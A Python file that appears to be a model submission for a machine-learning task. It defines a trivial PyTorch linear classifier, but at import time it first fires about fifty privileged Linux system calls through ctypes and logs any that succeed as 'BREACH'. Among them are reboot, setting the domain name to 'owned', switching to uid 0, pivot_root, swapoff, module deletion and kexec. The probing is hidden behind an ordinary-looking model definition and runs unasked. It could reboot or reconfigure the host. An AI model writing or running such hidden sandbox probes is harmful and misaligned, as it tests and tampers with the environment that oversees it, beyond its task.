"""Makes the calls that few programs need and many exploits do: personalities, ports, quotas."""

import ctypes
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(256)
CALLS = {  # numbers of x86-64
    "personality": (135, 0x0040000), "modify_ldt": (154, 1, room, 16), "iopl": (172, 3), "ioperm": (173, 0x60, 1, 1),
    "quotactl": (179, 0x800001, b"/dev/vda", 0, room), "vhangup": (153,), "swapoff": (168, b"/tmp/x"),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0, None), "delete_module": (176, b"none", 0), "clock_settime": (227, 0, room),
    "adjtimex": (159, (ctypes.c_int * 64)(1)), "setdomainname": (171, b"owned", 5), "nfsservctl": (180, 0, room, room),
    "lookup_dcookie": (212, 0, room, 1), "kexec_file_load": (320, 0, 0, 0, b"", 0), "fanotify_init": (300, 0, 0),
    "inotify_init": (253,), "io_submit": (209, 0, 0, room), "io_setup": (206, 1, room), "io_uring_enter": (426, 0, 1, 1, 0, None, 0),
    "io_uring_register": (427, 0, 0, room, 1), "fsconfig": (431, 0, 6, None, None, 0), "fsmount": (432, 0, 0, 0),
    "fspick": (433, -100, b"/", 0), "move_mount": (429, -100, b"/", -100, b"/tmp", 0), "mount_setattr": (442, -100, b"/", 0, room, 32),
    "statmount": (457, room, room, 256, 0), "listmount": (458, room, room, 8, 0), "memfd_secret": (447, 0),
    "quotactl_fd": (443, 0, 0, 0, room), "landlock_create_ruleset": (444, None, 0, 1), "mq_open": (240, b"q", 0o102, 0o600, None),
    "shmget": (29, 7, 4096, 0o1600), "semget": (64, 7, 1, 0o1600), "msgget": (68, 7, 0o1600), "request_key": (249, b"user", b"a", b"b", 0),
    "get_mempolicy": (239, None, None, 0, None, 0), "set_mempolicy": (238, 1, room, 8), "remap_file_pages": (216, 0, 4096, 0, 0, 0),
    "sysfs": (139, 3), "ustat": (136, 0, room), "uselib": (134, b"/tmp/x"), "acct(off)": (163, None), "setfsuid+1": (122, 0),
    "setresuid": (117, 0, 0, 0), "setresgid": (119, 0, 0, 0), "setgroups": (116, 1, room), "capset": (126, room, room),
    "map_shadow_stack": (453, 0, 4096, 0), "lsm_set_self_attr": (460, 100, room, 32, 0), "pivot_root": (155, b"/", b"/tmp"),
    "rseq twice": (334, room, 32, 0, 0), "seccomp(strict)": (317, 0, 0, None), "getrandom of kernel": (318, -4096, 64, 0),
}
HARMLESS_WHEN_ANSWERED = {"shmget", "semget", "msgget", "mq_open", "get_mempolicy", "set_mempolicy", "landlock_create_ruleset", "setfsuid+1"}
for name, (number, *arguments) in CALLS.items():
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    print("TRIED", name, result, os.strerror(ctypes.get_errno()))
    if result >= 0 and name not in HARMLESS_WHEN_ANSWERED:
        print("BREACH", name, result)
if os.geteuid() == 0 or 0 in os.getgroups():
    print("BREACH", os.geteuid(), os.getgroups())


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
